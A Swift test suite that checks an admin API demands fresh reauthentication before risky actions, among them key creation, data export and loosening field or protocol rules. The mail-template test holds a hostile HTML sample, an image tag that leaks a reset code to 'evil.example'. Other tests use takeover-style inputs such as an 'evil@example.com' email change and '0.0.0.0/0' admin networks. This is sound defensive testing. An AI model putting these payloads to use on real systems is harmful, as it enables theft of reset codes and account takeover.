import Domain
import HTTPTypes
import NCMBAPI
import OkaeriWire
import ParseAPI
import Testing

@testable import NativeAPI

/// Requirement 18 for admins at the API: what an open session must not be enough for.
@Suite("An admin's session that was left open")
struct AdminPresenceTests {
    private static let application = "applications/{application}"

    /// Everything that gives somebody a way in, takes data out, or destroys.
    private static let dangerous: Set<String> = [
        "POST admins", "PATCH admins/{id}", "DELETE admins/{id}", "POST admins/{id}/link", "POST admins/{id}/unlock",
        "POST keys",
        "PATCH keys/{id}", "DELETE keys/{id}", "POST signing-keys", "PATCH \(application)",
        "PUT \(application)/providers/{provider}",
        "DELETE \(application)/providers/{provider}", "PUT \(application)/protocols/{protocol}",
        "DELETE \(application)/protocols/{protocol}", "PUT \(application)/redirects", "GET \(application)/export",
        "DELETE \(application)/users/{user}", "POST \(application)/users/{user}/transfer-code",
        "POST \(application)/users/{user}/merge", "DELETE \(application)/users/{user}/passkeys/{passkey}",
        "DELETE \(application)/users/{user}/second-factors", "POST me/passkeys/request", "POST me/passkeys",
        "DELETE me/passkeys/{passkey}", "DELETE me/password", "PATCH \(application)/event-settings",
        "POST \(application)/event-endpoints", "PATCH \(application)/event-endpoints/{endpoint}",
        "DELETE \(application)/event-endpoints/{endpoint}", "POST \(application)/event-endpoints/{endpoint}/rotate",
        "POST \(application)/roles", "PATCH \(application)/roles/{grant}", "DELETE \(application)/roles/{grant}",
        "POST \(application)/groups", "PATCH \(application)/groups/{grant}",
        "DELETE \(application)/groups/{grant}", "PATCH \(application)/users/{user}/roles",
        "PUT \(application)/claims", "PUT \(application)/hooks/{hook}", "DELETE \(application)/hooks/{hook}",
        "POST \(application)/hooks/{hook}/rotate",
        "PUT \(application)/old-services/{service}", "DELETE \(application)/old-services/{service}",
        "PUT \(application)/mail/templates/{kind}/{language}", "DELETE \(application)/mail/templates/{kind}/{language}",
        "DELETE \(application)/mail/queue/{mail}",
    ]

    private func ask(_ world: AdminWorld, _ who: String, _ route: AdminRoute) async throws -> Answer {
        var path = String(route.path.dropFirst(AdminAPI.root.count))
        path = path.replacing("{application}", with: world.server.application.id.rawValue)
            .replacing(#/\{[a-z]+\}/#, with: "nothing")
        let hasBody = route.method != .get && route.method != .delete
        return try await world.send(
            who, route.method, path, [("If-Match", "\"1\"")], body: hasBody ? "{}" : nil)
    }

    @Test("is not enough for one table of actions, ten minutes after the password, and for all else it is")
    func table() async throws {
        let world = try await AdminWorld(roles: [])
        world.server.clock.advance(by: AdminSession.freshness)
        var asked: Set<String> = []
        for route in AdminAPI.table where route.action.policy.access != .open && !route.path.hasSuffix("/log-out") {
            let answer = try await ask(world, "owner", route)
            guard answer.code == .reauthenticationRequired else { continue }
            expect(answer, 403, .reauthenticationRequired)
            asked.insert("\(route.method) \(route.path.dropFirst(AdminAPI.root.count))")
        }
        #expect(asked == Self.dangerous)
        // Whatever is about admins and keys is among them.
        for route in AdminAPI.table where route.isAboutAdmins { #expect(route.action.policy.stepUp) }
    }

    @Test("is enough within ten minutes, and a program's key is always")
    func fresh() async throws {
        let world = try await AdminWorld(roles: [])
        let scopes = AdminPermission.allCases.filter { $0 != .manageAdmins }.map { "\"\($0.rawValue)\"" }
        let made = try await world.send(
            "owner", .post, "keys",
            body: #"{"name": "CI", "scopes": [\#(scopes.joined(separator: ","))], "days": 9}"#)
        let key = try #require(try made.json["secret"]?.text)
        world.server.clock.advance(by: AdminSession.freshness - .seconds(1))
        for route in AdminAPI.table where route.action.policy.stepUp {
            #expect(try await ask(world, "owner", route).code != .reauthenticationRequired, "\(route.path)")
        }
        world.server.clock.advance(by: .days(1))
        for route in AdminAPI.table where route.action.policy.stepUp && !route.isAboutAdmins {
            let answer = try await ask(world, key, route)
            #expect(![.reauthenticationRequired, .notAllowed].contains(answer.code), "\(route.path): \(answer.text)")
        }
        // It has nothing to prove itself by.
        let proof = try await world.send(key, .post, "reauthenticate", body: #"{"password": "x", "code": "000000"}"#)
        expect(proof, 401, .adminRequired)
    }

    @Test("is not enough to change what mails say")
    func mail() async throws {
        let world = try await AdminWorld(roles: [])
        let path = world.path("/mail/templates/password-reset/en")
        let body = #"{"subject": "s", "text": "Your code: {{code}}"}"#
        #expect(try await world.send("owner", .put, path, body: body).status == 200)
        let hostile = #"{"subject": "s", "text": "{{code}}", "html": "<img src='https://evil.example/?{{code}}'>"}"#
        #expect(try await world.send("owner", .put, path, body: hostile).text.contains("secret_in_address"))
        world.server.clock.advance(by: AdminSession.freshness)
        expect(try await world.send("owner", .put, path, body: body), 403, .reauthenticationRequired)
        expect(try await world.send("owner", .delete, path), 403, .reauthenticationRequired)
    }

    @Test("tightens rules of fields, and loosens none")
    func fields() async throws {
        let world = try await AdminWorld(roles: [])
        let (all, one) = (world.path("/fields"), world.path("/fields/isStaff"))
        let strict = #"{"type": "boolean", "read": "owner", "write": "server", "required": true, "default": false}"#
        world.server.clock.advance(by: AdminSession.freshness)
        // Another default of what only the server writes is a value that nobody has decided freshly.
        expect(try await world.send("owner", .put, one, body: strict), 403, .reauthenticationRequired)
        let tight = #"{"type": "boolean", "read": "owner", "write": "server"}"#
        #expect(try await world.send("owner", .put, one, body: tight).status == 200)
        #expect(try await world.send("owner", .put, all, body: #"{"policy": "closed"}"#).status == 200)
        let labelled = #"{"type": "boolean", "read": "server", "write": "server", "label": {"en": "Staff"}}"#
        #expect(try await world.send("owner", .put, one, body: labelled).status == 200)
        for loose in [
            #"{"type": "boolean", "read": "owner", "write": "owner"}"#, #"{"read": "server", "write": "server"}"#,
            #"{"type": "boolean", "read": "public", "write": "server"}"#,
            #"{"type": "boolean", "read": "server", "write": "server", "default": true}"#,
        ] {
            expect(try await world.send("owner", .put, one, body: loose), 403, .reauthenticationRequired)
        }
        expect(
            try await world.send("owner", .put, world.path("/fields/nick"), body: "{}"), 403, .reauthenticationRequired)
        expect(try await world.send("owner", .delete, one), 403, .reauthenticationRequired)
        expect(
            try await world.send("owner", .put, all, body: #"{"policy": "open"}"#), 403, .reauthenticationRequired)
        let wide = #"{"policy": "closed", "limits": {"fields": 400}}"#
        expect(try await world.send("owner", .put, all, body: wide), 403, .reauthenticationRequired)
    }

    @Test("gets another token with password and code, and ends when it would have ended")
    func reauthenticate() async throws {
        let world = try await AdminWorld(roles: [])
        let clock = world.server.clock
        clock.advance(by: AdminSession.freshness)
        let old = try #require(world.tokens["owner"])
        func prove(_ token: String, _ password: String, _ code: String) async throws -> Answer {
            try await world.send(
                token, .post, "reauthenticate", body: #"{"password": "\#(password)", "code": "\#(code)"}"#)
        }
        let code = try world.ownerCode
        expect(try await prove(old, "another password entirely", code), 401, .credentialRefused)
        expect(try await prove(old, AdminWorld.password, "00000x"), 401, .credentialRefused)
        let proven = try await prove(old, AdminWorld.password, code)
        #expect(proven.status == 200)
        let token = try #require(try proven.json["token"]?.text)
        #expect(token != old)
        expect(try await world.send(old, .get, "me"), 401, .adminRequired)
        #expect(try await world.send(token, .post, "signing-keys", body: "{}").status == 201)
        // The code counts once, and so does the token.
        expect(try await prove(token, AdminWorld.password, code), 401, .credentialRefused)
        expect(try await prove(old, AdminWorld.password, code), 401, .adminRequired)
        clock.advance(by: AdminSession.freshness)
        expect(try await world.send(token, .post, "signing-keys", body: "{}"), 403, .reauthenticationRequired)
        let actions = try await world.server.modules.administration.audit.list(in: AuditEntry.server)
            .filter { $0.action == .adminReauthenticated }
        #expect(actions.count { $0.result == .done } == 1 && actions.count { $0.result == .refused } == 3)
        // Not longer than twelve hours from the log-in, however often it is proven.
        let end = try proven.sessionEnd - .seconds(1)
        while clock.now < end {
            clock.advance(by: min(.seconds(3000), end - clock.now))
            #expect(try await world.send(token, .get, "me").status == 200)
        }
        clock.advance(by: .seconds(1))
        expect(try await world.send(token, .get, "me"), 401, .adminRequired)
    }

    @Test("is guarded against guessing as log-ins are, in one count with them")
    func guessing() async throws {
        let world = try await AdminWorld(roles: [])
        for _ in 0..<5 {
            let wrong = try await world.send(
                "owner", .post, "reauthenticate", body: #"{"password": "wrong password", "code": "000000"}"#)
            expect(wrong, 401, .credentialRefused)
        }
        let body = #"{"password": "\#(AdminWorld.password)", "code": "\#(try world.ownerCode)"}"#
        expect(try await world.send("owner", .post, "reauthenticate", body: body), 429, .rateLimited)
        // What the session was enough for, it is still.
        #expect(try await world.send("owner", .get, "me").status == 200)
    }

    @Test("two answers to one question at once: one counts")
    func race() async throws {
        let world = try await AdminWorld(roles: [])
        world.server.clock.advance(by: .seconds(60))
        let body = #"{"password": "\#(AdminWorld.password)", "code": "\#(try world.ownerCode)"}"#
        async let first = world.send("owner", .post, "reauthenticate", body: body)
        async let second = world.send("owner", .post, "reauthenticate", body: body)
        let answers = try await [first.status, second.status].sorted()
        #expect(answers == [200, 401])
    }

    @Test("is not enough for a rule of an old protocol that lets more through, and for a stricter one it is")
    func rules() async throws {
        let world = try await AdminWorld(roles: [])
        func change(_ name: String, _ body: String, changes: Bool = true) async throws -> Answer {
            try await world.send(
                "owner", .patch, world.path("/protocols/\(name)/rules"),
                try await world.version(of: world.path("/protocols")), body: body, changes: changes)
        }
        #expect(try await change("parse", #"{"hasPasswordPolicy": true}"#).status == 200)
        world.server.clock.advance(by: AdminSession.freshness)
        for (name, body) in [
            ("ncmb", #"{"takesPasswordsInAddresses": true}"#), ("parse", #"{"hasPasswordPolicy": false}"#),
            ("parse", #"{"administratorNetworks": ["0.0.0.0/0"]}"#), ("kii", #"{"isReadableByAll": true}"#),
            // A stricter one beside it does not help.
            ("ncmb", #"{"allowsAnonymous": false, "takesPasswordsInAddresses": true}"#),
        ] { expect(try await change(name, body), 403, .reauthenticationRequired) }
        for (name, body, changes) in [
            ("ncmb", #"{"allowsAnonymous": false}"#, true), ("parse", #"{"administratorNetworks": []}"#, true),
            ("ncmb", #"{"takesPasswordsInAddresses": false}"#, false),
            ("kii", #"{"demandsVerifiedEmail": true}"#, true),
        ] { #expect(try await change(name, body, changes: changes).status == 200, "\(body)") }
        let settings = try await world.server.modules.applications.findApplication(world.server.application.id).settings
        #expect(!settings.foreignOptions(of: .ncmb).takesPasswordsInAddresses)
        #expect(settings.foreignOptions(of: .parse).hasPasswordPolicy)
    }

    @Test("asks for a new mail address of a user, but not for a new name to be greeted by")
    func identifiers() async throws {
        let world = try await AdminWorld(roles: [])
        let user = try await world.server.signUp("hana")
        let id = try #require(try user.json["user"]?["id"]?.text)
        let shown = try await world.send("owner", .get, world.path("/users/\(id)"))
        let version = [("If-Match", try #require(shown.headers[.eTag]))]
        world.server.clock.advance(by: AdminSession.freshness)
        let email = try await world.send(
            "owner", .patch, world.path("/users/\(id)"), version, body: #"{"email": "evil@example.com"}"#)
        expect(email, 403, .reauthenticationRequired)
        let name = try await world.send(
            "owner", .patch, world.path("/users/\(id)"), version, body: #"{"displayName": "Hana"}"#)
        #expect(name.status == 200)
    }
}

extension AdminRoute {
    fileprivate var isAboutAdmins: Bool { action.policy.access == .permissions([.manageAdmins]) }
}
